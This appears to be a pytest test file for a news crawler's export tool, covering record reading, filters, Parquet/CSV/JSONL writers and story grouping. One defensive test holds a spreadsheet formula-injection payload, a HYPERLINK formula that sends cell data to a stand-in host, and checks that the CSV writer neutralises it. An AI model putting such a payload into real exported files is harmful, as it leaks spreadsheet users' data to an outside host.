"""The analyst export: read an output directory back, filter, group stories, write three formats.

Every format is read back with an independent reader (pyarrow.parquet, csv.DictReader, json).
"""

from __future__ import annotations

import csv
import json
import logging
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from crawler.dedup import DedupParams
from crawler.errors import ConfigError, NoInput, OutputError
from crawler.export import (
    COLUMNS,
    STORY_COLUMNS,
    Column,
    ExportFilter,
    arrow_schema,
    iter_records,
    iter_rows,
    record_columns,
    stories,
    write_csv,
    write_jsonl,
    write_parquet,
)
from crawler.foreign import FieldMap
from crawler.jobs import dedup_file
from crawler.models import MatchEvidence, Record, StoryMatch, TopicMatch
from tests.conftest import run_cli
from tests.test_jobs import SEED_A, SEED_B, news_please_row


def make_record(record_id: str, **fields: Any) -> Record:
    defaults: dict[str, Any] = {
        "url": f"https://example.org/{record_id}",
        "source": "alpha",
        "title": f"Title {record_id}",
        "title_raw": f"Title {record_id}",
        "fetched_at": "2024-05-01T12:00:00Z",
        "content_hash": f"hash-{record_id}",
        "language": "en",
        "story_id": f"s-{record_id}",
        "run_id": "run1",
    }
    return Record(id=record_id, **{**defaults, **fields})


def write_file(path: Path, records: list[Record]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"".join(msgspec.json.encode(record) + b"\n" for record in records))
    return path


# A: canonical of story "nato" (English); B: its German duplicate from another source;
# C: revised in the second run (published unknown, so dated by fetched_at);
# D: a later story with two topics.
A = make_record(
    "a",
    published="2024-05-01T08:00:00Z",
    authors=["Ann Lee", "Bo Chen"],
    tags=["nato", "defence"],
    topics=[TopicMatch(topic="alliances", terms=["nato"])],
    story_id="nato",
)
B = make_record(
    "b",
    source="beta",
    language="de",
    title="Nato-Gipfel: Einigung über Verteidigungsausgaben",
    published="2024-05-01T09:00:00Z",
    topics=[TopicMatch(topic="alliances", terms=["nato"])],
    story_id="nato",
    duplicate_of="a",
    match=MatchEvidence(rule="cross_language", title_similarity=0.82, matched_id="a"),
    story_match=StoryMatch(record_id="a", similarity=1.0, shared_names=["nato"],
                           rule="duplicate"),
)
C1 = make_record("c", title="Old headline", fetched_at="2024-05-01T12:00:00Z")
C2 = make_record(
    "c", revision=2, title="New headline", fetched_at="2024-05-02T06:00:00Z", run_id="run2"
)
D = make_record(
    "d",
    source="gamma",
    published="2024-05-02T10:00:00Z",
    fetched_at="2024-05-02T11:00:00Z",
    topics=[
        TopicMatch(topic="cyber", terms=["ransomware"]),
        TopicMatch(topic="defence", terms=["army"]),
    ],
    run_id="run2",
)


@pytest.fixture
def output_dir(tmp_path: Path) -> Path:
    root = tmp_path / "output"
    write_file(root / "2024/05/01/records-run1.jsonl", [A, B, C1])
    write_file(root / "2024/05/02/records-run2.jsonl", [C2, D])
    (root / "2024/05/01/rejects-run1.jsonl").write_text('{"reason": "http_error"}\n')
    (root / "runs.jsonl").write_text('{"run_id": "run1"}\n')
    return root


def ids(rows: list[dict[str, Any]]) -> list[str]:
    return [row["id"] for row in rows]


# --- reading -------------------------------------------------------------------------------


def test_latest_revision_wins_and_records_come_in_file_order(output_dir: Path) -> None:
    rows = list(iter_records(output_dir))
    assert ids(rows) == ["a", "b", "c", "d"]
    c = rows[2]
    assert (c["revision"], c["title"], c["run_id"]) == (2, "New headline", "run2")


def test_same_revision_written_twice_resolves_to_the_later_copy(output_dir: Path) -> None:
    rewritten = msgspec.structs.replace(A, run_id="run3")
    write_file(output_dir / "2024/05/03/records-run3.jsonl", [rewritten])
    rows = list(iter_records(output_dir))
    assert ids(rows) == ["b", "c", "d", "a"]
    assert rows[-1]["run_id"] == "run3"


def test_records_are_plain_dicts_with_every_field(output_dir: Path) -> None:
    b = next(row for row in iter_records(output_dir) if row["id"] == "b")
    assert list(b) == [f.name for f in msgspec.structs.fields(Record)]
    assert b["match"] == {
        "rule": "cross_language",
        "title_similarity": 0.82,
        "body_similarity": None,
        "matched_id": "a",
    }


def test_torn_last_line_is_skipped_with_a_warning(
    output_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = output_dir / "2024/05/02/records-run2.jsonl"
    with path.open("ab") as handle:
        handle.write(msgspec.json.encode(make_record("e"))[:40])
    with caplog.at_level(logging.WARNING, logger="crawler.export"):
        rows = list(iter_records(output_dir))
    assert ids(rows) == ["a", "b", "c", "d"]
    assert f"{path}:3: skipping torn last line" in caplog.text


def test_corrupt_line_mid_file_names_file_and_line(output_dir: Path) -> None:
    path = output_dir / "2024/05/01/records-run1.jsonl"
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(lines[0] + lines[1][:30] + b"\n" + lines[2])
    with pytest.raises(OutputError, match=rf"{path}:2: invalid JSON"):
        list(iter_records(output_dir))


def test_invalid_last_line_ending_in_newline_is_corruption_not_a_tear(output_dir: Path) -> None:
    path = output_dir / "2024/05/02/records-run2.jsonl"
    with path.open("ab") as handle:
        handle.write(b'{"id": "e", "tit\n')
    with pytest.raises(OutputError, match=rf"{path}:3"):
        list(iter_records(output_dir))


def test_valid_json_that_is_not_a_record_is_an_error(output_dir: Path) -> None:
    path = output_dir / "2024/05/02/records-run2.jsonl"
    with path.open("ab") as handle:
        handle.write(b'{"id": "e", "revision": 1}\n')
    with pytest.raises(OutputError, match=rf"{path}:3: not a policywire record"):
        list(iter_records(output_dir))


def test_missing_output_dir_is_no_input(tmp_path: Path) -> None:
    with pytest.raises(NoInput, match="no such output directory"):
        iter_records(tmp_path / "nope")
    with pytest.raises(NoInput, match="no such file or directory"):
        iter_rows(tmp_path / "nope")
    (tmp_path / "file").touch()
    with pytest.raises(ConfigError, match="not an output directory"):
        iter_records(tmp_path / "file")


# --- filters -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("flt", "expected"),
    [
        (ExportFilter(), ["a", "b", "c", "d"]),
        # C's latest revision was fetched on 05-02, so it belongs to 05-02 (not its first fetch).
        (ExportFilter(since="2024-05-02"), ["c", "d"]),
        (ExportFilter(until="2024-05-02"), ["a", "b"]),
        (ExportFilter(since="2024-05-01T09:00:00Z"), ["b", "c", "d"]),
        (ExportFilter(until="2024-05-01T09:00:00+00:00"), ["a"]),
        (ExportFilter(since="2024-05-01T11:00:00+02:00", until="2024-05-02T10:00"), ["b", "c"]),
        (ExportFilter(sources=frozenset({"alpha"})), ["a", "c"]),
        (ExportFilter(sources=frozenset({"beta", "gamma"})), ["b", "d"]),
        (ExportFilter(languages=frozenset({"de"})), ["b"]),
        (ExportFilter(topics=frozenset({"defence"})), ["d"]),
        (ExportFilter(topics=frozenset({"alliances", "cyber"})), ["a", "b", "d"]),
        (ExportFilter(sources=frozenset({"alpha"}), topics=frozenset({"alliances"})), ["a"]),
        (ExportFilter(languages=frozenset({"fr"})), []),
    ],
)
def test_filter_selects_records(output_dir: Path, flt: ExportFilter, expected: list[str]) -> None:
    assert ids(list(iter_records(output_dir, flt))) == expected


def test_filter_applies_to_the_latest_revision_only(output_dir: Path) -> None:
    # Revision 1 of C was fetched on 05-01; an old copy must not leak into a 05-01 export.
    assert "c" not in ids(list(iter_records(output_dir, ExportFilter(until="2024-05-02"))))


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"since": "yesterday"}, "since: not an ISO 8601"),
        ({"since": "2024-05-02", "until": "2024-05-01"}, "is not before"),
        ({"sources": "alpha"}, "not the string"),
    ],
)
def test_invalid_filter_fails_before_reading(kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        ExportFilter(**kwargs)


# --- columns -------------------------------------------------------------------------------


def test_columns_follow_record_fields_with_both_matches_flattened_in_place() -> None:
    fields = [f.name for f in msgspec.structs.fields(Record)]
    assert COLUMNS[: fields.index("match")] == tuple(fields[: fields.index("match")])
    assert COLUMNS[fields.index("match") :] == (
        "match_rule",
        "match_title_similarity",
        "match_body_similarity",
        "story_match_record_id",
        "story_match_similarity",
        "story_match_shared_names",
        "story_match_rule",
    )
    assert COLUMNS[:3] == ("schema_version", "id", "revision")


def test_new_record_field_gets_a_column_of_its_type() -> None:
    class Extended(Record, frozen=True, kw_only=True):
        reading_minutes: float | None = None
        regions: list[str] = msgspec.field(default_factory=list)
        raw: dict[str, int] | None = None

    columns = record_columns(Extended)
    assert columns[-3:] == (
        Column("reading_minutes", "float"),
        Column("regions", "list"),
        Column("raw", "json"),
    )


# --- writers: records ----------------------------------------------------------------------


def test_parquet_round_trip_keeps_columns_types_and_values(
    output_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export.parquet"
    assert write_parquet(iter_records(output_dir), out) == 4
    table = pq.read_table(out)
    assert tuple(table.column_names) == COLUMNS
    assert table.schema.field("authors").type == pa.list_(pa.string())
    assert table.schema.field("topics").type == pa.list_(pa.string())
    assert table.schema.field("revision").type == pa.int64()
    assert table.schema.field("match_title_similarity").type == pa.float64()
    # page_error is null in every row: its type still comes from the schema, not the data.
    assert table.schema.field("page_error").type == pa.string()
    # Moments are timestamps, not strings (the raw date stays text).
    for name in ("published", "updated", "fetched_at"):
        assert table.schema.field(name).type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("published_raw").type == pa.string()
    rows = table.to_pylist()
    assert rows[0]["published"] == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
    assert [row["id"] for row in rows] == ["a", "b", "c", "d"]
    a, b, c, d = rows
    assert a["authors"] == ["Ann Lee", "Bo Chen"]
    assert a["topics"] == ["alliances"]
    assert b["title"] == "Nato-Gipfel: Einigung über Verteidigungsausgaben"
    assert (b["match_rule"], b["match_title_similarity"], b["match_body_similarity"]) == (
        "cross_language",
        0.82,
        None,
    )
    assert (c["revision"], c["published"]) == (2, None)
    assert d["topics"] == ["cyber", "defence"]
    assert table.schema.metadata[b"policywire.shape"] == b"records"


def test_parquet_is_written_in_batches(output_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.parquet"
    assert write_parquet(iter_records(output_dir), out, batch_size=3) == 4
    parquet = pq.ParquetFile(out)
    assert parquet.metadata.num_rows == 4
    assert parquet.metadata.num_row_groups == 2


def test_empty_export_is_a_valid_parquet_file_with_the_full_schema(
    output_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "empty.parquet"
    rows = iter_records(output_dir, ExportFilter(languages=frozenset({"fr"})))
    assert write_parquet(rows, out) == 0
    table = pq.read_table(out)
    assert table.num_rows == 0
    assert table.schema.equals(arrow_schema("records"))
    assert tuple(table.column_names) == COLUMNS


def test_csv_round_trip_writes_lists_as_json_and_leaves_nulls_empty(
    output_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    assert write_csv(iter_records(output_dir), out) == 4
    with out.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
    assert tuple(reader.fieldnames or ()) == COLUMNS
    a, b, c, d = rows
    assert a["authors"] == '["Ann Lee","Bo Chen"]'
    assert a["tags"] == '["nato","defence"]'
    assert a["media"] == "[]"
    assert b["title"] == "Nato-Gipfel: Einigung über Verteidigungsausgaben"
    assert (b["match_rule"], b["match_title_similarity"], b["match_body_similarity"]) == (
        "cross_language",
        "0.82",
        "",
    )
    assert (c["revision"], c["published"], c["duplicate_of"]) == ("2", "", "")
    assert d["topics"] == '["cyber","defence"]'
    assert c["authors"] == "[]"  # an empty list, apart from a null's empty cell


def test_csv_list_cells_split_back_into_the_values_written(tmp_path: Path) -> None:
    # An analyst's trial: joined with "; ", the authors "Lee; Ann" and "Bo Chen" read back
    # as three names; a list cell must give back exactly the list that was exported.
    authors = ["Lee; Ann", "Bo Chen", 'say "hi", then; go', ""]
    tags = ["a; b", "=not a formula"]
    root = tmp_path / "output"
    write_file(root / "2024/05/01/records-run1.jsonl",
               [make_record("a", authors=authors, tags=tags)])
    out = tmp_path / "export.csv"
    assert write_csv(iter_records(root), out) == 1
    with out.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (json.loads(row["authors"]), json.loads(row["tags"])) == (authors, tags)


def test_csv_to_stdout(output_dir: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert write_csv(iter_records(output_dir, ExportFilter(languages=frozenset({"de"}))), None)
    lines = capsysbinary.readouterr().out.decode("utf-8").splitlines()
    assert lines[0] == ",".join(COLUMNS)
    assert "Nato-Gipfel: Einigung über Verteidigungsausgaben" in lines[1]
    assert len(lines) == 2


def test_empty_csv_has_the_header_only(output_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "empty.csv"
    assert write_csv(iter_records(output_dir, ExportFilter(sources=frozenset({"x"}))), out) == 0
    assert out.read_bytes() == (",".join(COLUMNS) + "\r\n").encode()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_cells_that_spreadsheets_would_run_as_formulas_get_a_leading_quote(
    tmp_path: Path,
) -> None:
    # A crawled title reached the CSV as a live formula (issue 19 item 5); --csv-raw keeps it.
    hostile = make_record("f", title=FORMULA, summary="-1 dead", authors=["@handle"],
                          text="\tindented", title_raw="+plus", published_raw="\rx")
    write_file(tmp_path / "output/2024/05/01/records-run1.jsonl", [A, hostile])

    def exported(*options: str) -> dict[str, str]:
        table = tmp_path / "records.csv"
        run = run_cli("export", "output", "--format", "csv", "-o", str(table), *options,
                      cwd=tmp_path)
        assert run.code == 0, run.stderr
        with table.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert rows[0]["title"] == A.title  # plain text untouched
        return rows[1]

    defused = exported()
    assert (defused["title"], defused["summary"], defused["authors"]) == (
        "'" + FORMULA, "'-1 dead", '["@handle"]')  # a list cell starts with its "["
    assert (defused["text"], defused["title_raw"], defused["published_raw"]) == (
        "'\tindented", "'+plus", "'\rx")
    assert defused["revision"] == "1"  # numbers are data, never quoted
    raw = exported("--csv-raw")
    assert (raw["title"], raw["summary"], raw["text"]) == (FORMULA, "-1 dead", "\tindented")


def test_jsonl_round_trip_keeps_nested_records(output_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.jsonl"
    assert write_jsonl(iter_records(output_dir), out) == 4
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert rows == list(iter_records(output_dir))
    assert rows[3]["topics"] == [
        {"topic": "cyber", "terms": ["ransomware"]},
        {"topic": "defence", "terms": ["army"]},
    ]


def test_failed_export_leaves_no_file_behind(output_dir: Path, tmp_path: Path) -> None:
    path = output_dir / "2024/05/02/records-run2.jsonl"
    path.write_bytes(path.read_bytes() + b'{"id": "e", "revision": 1}\n')
    out = tmp_path / "export.parquet"
    out.write_bytes(b"previous export")
    with pytest.raises(OutputError):
        write_parquet(iter_records(output_dir), out)
    assert out.read_bytes() == b"previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.parquet", "output"]


# --- stories -------------------------------------------------------------------------------


def test_duplicates_group_into_one_story_under_their_canonical(output_dir: Path) -> None:
    result = list(stories(iter_records(output_dir)))
    assert [story["story_id"] for story in result] == ["nato", "s-c", "s-d"]
    nato = result[0]
    assert nato["canonical"]["id"] == "a"
    assert nato["size"] == 2
    assert nato["first_published"] == "2024-05-01T08:00:00Z"
    assert nato["sources"] == ["alpha", "beta"]
    assert nato["languages"] == ["de", "en"]
    assert [v["id"] for v in nato["variants"]] == ["a"]  # b is a's copy: nested under it
    (b,) = nato["variants"][0]["duplicates"]
    assert b == {
        "id": "b",
        "source": "beta",
        "url": "https://example.org/b",
        "title": "Nato-Gipfel: Einigung über Verteidigungsausgaben",
        "language": "de",
        "published": "2024-05-01T09:00:00Z",
        "duplicate_of": "a",
        "match": {
            "rule": "cross_language",
            "title_similarity": 0.82,
            "body_similarity": None,
            "matched_id": "a",
        },
        "story_match": {"record_id": "a", "similarity": 1.0, "shared_names": ["nato"],
                        "rule": "duplicate"},
    }
    assert result[1]["first_published"] is None


def test_a_story_of_several_outlets_nests_each_copy_under_its_original() -> None:
    # One event: a (first), c told in other words by another outlet, b copying a, d copying c,
    # and e copying a record outside the export: it stands among the originals.
    def member(ident: str, hour: int, copies: str | None = None, rule: str = "content"
               ) -> dict[str, Any]:
        link = None if ident == "a" else StoryMatch(record_id=copies or "a", similarity=0.6,
                                                    rule="duplicate" if copies else rule)
        return msgspec.to_builtins(make_record(
            ident, story_id="event", published=f"2024-05-01T0{hour}:00:00Z", duplicate_of=copies,
            story_match=link))
    rows = [member("d", 4, "c"), member("b", 2, "a"), member("e", 5, "x"), member("c", 3),
            member("a", 1)]
    (story,) = stories(rows)
    assert (story["canonical"]["id"], story["size"]) == ("a", 5)
    assert [(v["id"], [d["id"] for d in v["duplicates"]]) for v in story["variants"]] == [
        ("a", ["b"]), ("c", ["d"]), ("e", [])]
    assert story["variants"][1]["story_match"]["rule"] == "content"


def test_canonical_outside_the_filter_is_replaced_by_the_earliest_variant(
    output_dir: Path,
) -> None:
    (nato,) = stories(iter_records(output_dir, ExportFilter(languages=frozenset({"de"}))))
    assert (nato["story_id"], nato["canonical"]["id"], nato["size"]) == ("nato", "b", 1)


def test_canonical_is_chosen_whatever_the_input_order(output_dir: Path) -> None:
    rows = list(iter_records(output_dir))
    forward = {story["story_id"]: story for story in stories(rows)}
    backward = {story["story_id"]: story for story in stories(reversed(rows))}
    assert backward == forward


def test_record_without_story_id_is_a_story_of_its_own() -> None:
    lone = msgspec.to_builtins(make_record("x", story_id=None))
    (story,) = stories([lone])
    assert (story["story_id"], story["canonical"]["id"], story["size"]) == (None, "x", 1)


def test_stories_to_parquet_have_variants_as_a_list_of_structs(
    output_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "stories.parquet"
    assert write_parquet(stories(iter_records(output_dir)), out, shape="stories") == 3
    table = pq.read_table(out)
    assert tuple(table.column_names) == STORY_COLUMNS
    variants_type = table.schema.field("variants").type
    assert pa.types.is_list(variants_type)
    assert pa.types.is_struct(variants_type.value_type)
    nato = table.to_pylist()[0]
    assert (nato["story_id"], nato["size"], nato["canonical_id"]) == ("nato", 2, "a")
    assert nato["sources"] == ["alpha", "beta"]
    assert nato["canonical_topics"] == ["alliances"]
    (b,) = nato["variants"][0]["duplicates"]
    assert (b["match_rule"], b["story_match_rule"]) == ("cross_language", "duplicate")
    assert b["story_match_shared_names"] == ["nato"]
    assert nato["first_published"] == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
    assert nato["variants"][0]["published"] == nato["first_published"]
    assert b["published"] == datetime(2024, 5, 1, 9, 0, tzinfo=UTC)
    assert b["title"] == "Nato-Gipfel: Einigung über Verteidigungsausgaben"


def test_empty_stories_parquet_keeps_the_variants_type(tmp_path: Path) -> None:
    out = tmp_path / "stories.parquet"
    assert write_parquet(iter([]), out, shape="stories") == 0
    assert pq.read_table(out).schema.equals(arrow_schema("stories"))


def test_stories_to_csv_flatten_the_canonical_and_encode_variants(
    output_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "stories.csv"
    assert write_csv(stories(iter_records(output_dir)), out, shape="stories") == 3
    with out.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        nato = next(reader)
    assert tuple(reader.fieldnames or ()) == STORY_COLUMNS
    assert (nato["story_id"], nato["size"], nato["canonical_title"]) == ("nato", "2", "Title a")
    assert json.loads(nato["languages"]) == ["de", "en"]
    variants = json.loads(nato["variants"])
    assert [v["id"] for v in variants] == ["a"]
    assert variants[0]["duplicates"][0]["match_title_similarity"] == 0.82


def test_stories_to_jsonl_keep_the_nested_shape(output_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "stories.jsonl"
    assert write_jsonl(stories(iter_records(output_dir)), out, shape="stories") == 3
    first = json.loads(out.read_text(encoding="utf-8").splitlines()[0])
    assert first["canonical"]["topics"] == [{"topic": "alliances", "terms": ["nato"]}]
    assert first["variants"][0]["duplicates"][0]["match"]["rule"] == "cross_language"



# --- a file policywire dedup wrote ---------------------------------------------------------


def _deduplicated(tmp_path: Path) -> Path:
    """Rows from elsewhere through `policywire dedup`: no source, topics or fetched_at; one
    without any date, one with an RFC 2822 date, one with a date that cannot be read."""
    source, target = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    rows = [
        {"url": "https://b.de/2", "title": SEED_B, "published": "2026-11-07T14:02:00Z"},
        {"url": "https://c.de/3", "title": SEED_A + " Liveblog"},  # undated
        {"url": "https://a.de/1", "title": SEED_A, "published": "2026-11-07T13:20:00Z"},
        {"url": "https://d.de/4", "title": "Tag 412 des Krieges in der Ukraine",
         "published": "Sat, 07 Nov 2026 10:00:00 GMT"},
        {"url": "https://e.de/5", "title": "Tag 413 des Krieges in der Ukraine",
         "published": "gestern"},
    ]
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    dedup_file(source, target, DedupParams(), parallel=False)
    return target


def test_stories_of_a_deduplicated_file_list_every_variant(tmp_path: Path) -> None:
    found = list(stories(iter_rows(_deduplicated(tmp_path))))
    assert len(found) == 3
    seed = next(story for story in found if story["size"] == 3)
    assert seed["canonical"]["url"] == "https://a.de/1"
    # The copies nested under their original, earliest first; the undated copy last.
    (original,) = seed["variants"]
    assert [v["url"] for v in (original, *original["duplicates"])] == [
        "https://a.de/1", "https://b.de/2", "https://c.de/3"]
    assert seed["first_published"] == "2026-11-07T13:20:00Z"
    day, later = (story for story in found if story["size"] == 1)
    assert day["first_published"] == "2026-11-07T10:00:00Z"  # read as dedup read it
    assert later["first_published"] is None  # "gestern": none to report


def test_a_record_twice_in_a_deduplicated_file_is_one_row_and_variant(tmp_path: Path) -> None:
    # The same line twice in the input: dedup writes it twice (one id, one decision);
    # its story lists it once.
    path = _deduplicated(tmp_path)
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join([*lines, lines[0]]) + "\n", encoding="utf-8")
    rows = list(iter_rows(path))
    assert len(rows) == len(lines)  # exported once (it was twice), at its later line
    assert rows[-1]["id"] == json.loads(lines[0])["id"]
    found = list(stories(iter_rows(path)))
    assert [story["size"] for story in found] == [3, 1, 1]
    assert all(len(member_ids(s)) == s["size"] for s in found)


@pytest.mark.parametrize("one_source", [False, True])
def test_stories_of_rows_without_a_source_export_to_every_format(
        tmp_path: Path, one_source: bool) -> None:
    # Rows from elsewhere carry no source; a story of them (or of them and one row that
    # names its source) lists the sources it knows: none is no source, not a None cell.
    source, merged = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    rows = [{"url": "https://a.de/1", "title": SEED_A, "published": "2026-11-07T13:20:00Z"},
            {"url": "https://b.de/2", "title": SEED_B, "published": "2026-11-07T14:02:00Z"}]
    if one_source:
        rows[1]["source"] = "b-news"
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    assert run_cli("dedup", str(source), "-o", str(merged), "-q", cwd=tmp_path).code == 0
    for name in ("s.csv", "s.jsonl", "s.parquet"):
        run = run_cli("export", str(merged), "--stories", "-o", name, cwd=tmp_path)
        assert run.code == 0, run.stderr
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as handle:
        (story,) = list(csv.DictReader(handle))
    assert story["size"] == "2"
    assert json.loads(story["sources"]) == (["b-news"] if one_source else [])


def member_ids(story: dict[str, Any]) -> set[str]:
    return {m["id"] for v in story["variants"] for m in (v, *v["duplicates"])}


def test_filters_on_a_deduplicated_file_skip_what_it_lacks(tmp_path: Path) -> None:
    path = _deduplicated(tmp_path)
    dated = ExportFilter(since="2026-11-07", until="2026-11-08")
    assert [row["url"] for row in iter_rows(path, dated)] == [
        "https://b.de/2", "https://a.de/1", "https://d.de/4"]
    assert not list(iter_rows(path, ExportFilter(sources=frozenset({"x"}))))
    assert not list(iter_rows(path, ExportFilter(topics=frozenset({"alliances"}))))


def test_a_line_of_a_file_that_is_not_an_object_names_file_and_line(tmp_path: Path) -> None:
    path = _deduplicated(tmp_path)
    with path.open("a", encoding="utf-8") as handle:
        handle.write("[1, 2]\n")
    with pytest.raises(OutputError, match=rf"{path}:6: line is not a JSON object"):
        list(iter_rows(path))


def test_stories_and_export_of_a_news_please_file_read_its_fields(tmp_path: Path) -> None:
    # dedup, stories and export read a file from elsewhere alike: date, outlet and language
    # under the names news-please gives them (before: no date and no source in either).
    source, merged = tmp_path / "np.jsonl", tmp_path / "merged.jsonl"
    rows = [news_please_row("https://a.de/1", SEED_A, "2026-11-07 14:02:00"),
            news_please_row("https://b.de/2", SEED_B, "Sat, 07 Nov 2026 13:20:00 GMT"),
            news_please_row("https://c.de/3", "Tag 412 des Krieges", "2026-11-09 08:00:00")]
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    assert run_cli("dedup", str(source), "-o", str(merged), "-q", cwd=tmp_path).code == 0
    run = run_cli("stories", str(merged), "--since", "2026-11-07", "--until", "2026-11-08",
                  cwd=tmp_path)
    assert run.code == 0, run.stderr
    (story,) = map(json.loads, run.stdout.splitlines())
    assert story["first_published"] == "2026-11-07T13:20:00Z"
    assert story["sources"] == ["a.de", "b.de"]
    assert story["languages"] == ["de"]
    table = tmp_path / "records.csv"
    run = run_cli("export", str(merged), "--format", "csv", "-o", str(table), cwd=tmp_path)
    assert run.code == 0, run.stderr
    with table.open(encoding="utf-8", newline="") as handle:
        exported = list(csv.DictReader(handle))
    # One format, as crawled records write it (before: news-please's "2026-11-07 14:02:00"
    # as it came, beside the RFC 2822 date turned into ISO 8601 UTC).
    assert [(r["source"], r["published"]) for r in exported] == [
        ("a.de", "2026-11-07T14:02:00Z"), ("b.de", "2026-11-07T13:20:00Z"),
        ("c.de", "2026-11-09T08:00:00Z")]
    run = run_cli("export", str(merged), cwd=tmp_path)  # JSONL: its own key keeps the text
    assert [(row["published"], row["date_publish"]) for row in map(json.loads,
                                                                   run.stdout.splitlines())] == [
        ("2026-11-07T14:02:00Z", "2026-11-07 14:02:00"),
        ("2026-11-07T13:20:00Z", "Sat, 07 Nov 2026 13:20:00 GMT"),
        ("2026-11-09T08:00:00Z", "2026-11-09 08:00:00")]


def test_stories_read_the_keys_given_with_field(tmp_path: Path) -> None:
    merged = tmp_path / "merged.jsonl"
    rows = [{"url": "https://a.de/1", "title": SEED_A, "zeit": "2026-11-07T14:02:00Z"},
            {"url": "https://b.de/2", "title": SEED_B, "zeit": "2026-11-07T13:20:00Z"}]
    merged.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    dedup_file(merged, tmp_path / "out.jsonl", DedupParams(), parallel=False,
               fields=FieldMap.parse(["published=zeit"]))
    run = run_cli("stories", str(tmp_path / "out.jsonl"), "--field", "published=zeit",
                  cwd=tmp_path)
    assert run.code == 0, run.stderr
    (story,) = map(json.loads, run.stdout.splitlines())
    assert story["first_published"] == "2026-11-07T13:20:00Z"
    assert story["canonical"]["url"] == "https://b.de/2"
    run = run_cli("stories", str(tmp_path), "--field", "published=zeit", cwd=tmp_path)
    assert run.code == 2 and "--field is for a JSONL file" in run.stderr  # not ignored
